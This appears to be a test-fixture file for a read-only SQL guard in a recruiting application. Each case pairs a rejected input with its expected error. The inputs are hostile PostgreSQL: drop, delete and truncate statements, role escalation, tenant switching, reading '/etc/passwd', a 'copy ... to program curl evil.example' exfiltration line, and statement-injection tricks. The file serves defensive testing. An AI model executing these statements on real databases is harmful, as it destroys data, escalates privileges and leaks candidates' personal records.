-- attack: nothing at all
-- told: There is no statement.

-- attack: a comment alone
-- told: There is no statement.
-- select 1
-- attack: only a semicolon
-- told: There is no statement.
;
-- attack: deletes
-- told: Only SELECT is possible here:
delete from jobs;
-- attack: updates
-- told: Only SELECT is possible here:
update applications set status = 'hired';
-- attack: inserts
-- told: Only SELECT is possible here:
insert into jobs (title) values ('x');
-- attack: merges
-- told: Only SELECT is possible here:
merge into jobs j using applications a on a.job_id = j.id when matched then delete;
-- attack: truncates
-- told: Only SELECT is possible here:
truncate jobs;
-- attack: drops
-- told: Only SELECT is possible here:
drop schema analytics cascade;
-- attack: creates a table of what it reads
-- told: Only SELECT is possible here:
create table stolen as select * from candidates;
-- attack: creates a function
-- told: Only SELECT is possible here:
create function f() returns int language sql as 'select 1';
-- attack: makes itself a superuser
-- told: Only SELECT is possible here:
alter role analytics_reader superuser;
-- attack: gives itself rights
-- told: Only SELECT is possible here:
grant all on all tables in schema public to public;
-- attack: becomes another role
-- told: Only SELECT is possible here:
set role postgres;
-- attack: leaves its role
-- told: Only SELECT is possible here:
reset role;
-- attack: sets another company
-- told: Only SELECT is possible here:
set muster.company_id = 'other';
-- attack: sets another company for a transaction
-- told: Only SELECT is possible here:
set local muster.company_id = '*';
-- attack: becomes the session's user
-- told: Only SELECT is possible here:
set session authorization postgres;
-- attack: shows a setting
-- told: Only SELECT is possible here:
show all;
-- attack: shows a file's place
-- told: Only SELECT is possible here:
show hba_file;
-- attack: explains
-- told: Only SELECT is possible here:
explain select * from jobs;
-- attack: explains by running
-- told: Only SELECT is possible here:
explain (analyze, verbose, settings) select * from jobs;
-- attack: runs code
-- told: Only SELECT is possible here:
do $$ begin perform pg_sleep(10); end $$;
-- attack: calls a procedure
-- told: Only SELECT is possible here:
call something();
-- attack: copies out of a file
-- told: Only SELECT is possible here:
copy jobs from '/etc/passwd';
-- attack: copies into a program
-- told: Only SELECT is possible here:
copy (select * from candidates) to program 'curl evil.example';
-- attack: copies to the client
-- told: Only SELECT is possible here:
copy (select 1) to stdout;
-- attack: prepares
-- told: Only SELECT is possible here:
prepare p as select * from candidates;
-- attack: runs what was prepared
-- told: Only SELECT is possible here:
execute p;
-- attack: opens a cursor
-- told: Only SELECT is possible here:
declare c cursor with hold for select * from candidates;
-- attack: reads from a cursor
-- told: Only SELECT is possible here:
fetch all from c;
-- attack: begins
-- told: Only SELECT is possible here:
begin;
-- attack: commits
-- told: Only SELECT is possible here:
commit;
-- attack: rolls back
-- told: Only SELECT is possible here:
rollback;
-- attack: two statements
-- told: Only one statement is possible at a time.
select 1; select 2;
-- attack: a second statement behind a comment
-- told: Only one statement is possible at a time.
select 1 /* ; */ ; drop table jobs;
-- attack: the way out of a read-only transaction
-- told: Only one statement is possible at a time.
commit; begin read write; delete from jobs;
-- attack: a second statement behind a string with a backslash
-- told: Only one statement is possible at a time.
select '\'; drop table jobs; --';
-- attack: listens
-- told: Only SELECT is possible here:
listen something;
-- attack: notifies
-- told: Only SELECT is possible here:
notify something, 'x';
-- attack: locks a table
-- told: Only SELECT is possible here:
lock table jobs in access exclusive mode;
-- attack: analyses
-- told: Only SELECT is possible here:
analyze jobs;
-- attack: vacuums
-- told: Only SELECT is possible here:
vacuum full;
-- attack: loads a library
-- told: Only SELECT is possible here:
load 'auto_explain';
-- attack: comments on a table
-- told: Only SELECT is possible here:
comment on table jobs is 'x';
-- attack: forgets the session
-- told: Only SELECT is possible here:
discard all;
-- attack: makes a checkpoint
-- told: Only SELECT is possible here:
checkpoint;
-- attack: refreshes a view
-- told: Only SELECT is possible here:
refresh materialized view m;
-- attack: reads in PostgreSQL's other language
-- told: Only SELECT is possible in WITH:
with x as (delete from jobs returning *) select * from x;
-- attack: writes in a query of WITH
-- told: Only SELECT is possible in WITH:
with x as (update jobs set title = 'x' returning id) select count(*) from x;
-- attack: inserts in a query of WITH
-- told: Only SELECT is possible in WITH:
with x as (insert into jobs (title) values ('x') returning id) select id from x;
-- attack: merges in a query of WITH
-- told: Only SELECT is possible in WITH:
with x as (merge into jobs j using applications a on a.job_id = j.id when matched then delete returning j.id) select * from x;
-- attack: no SQL
-- told: PostgreSQL can not read it:
how many applicants do we have?
-- attack: an unfinished string
-- told: PostgreSQL can not read it:
select 'x
-- attack: an unfinished comment
-- told: PostgreSQL can not read it:
select 1 /* and
-- attack: an unfinished bracket
-- told: PostgreSQL can not read it:
select (1
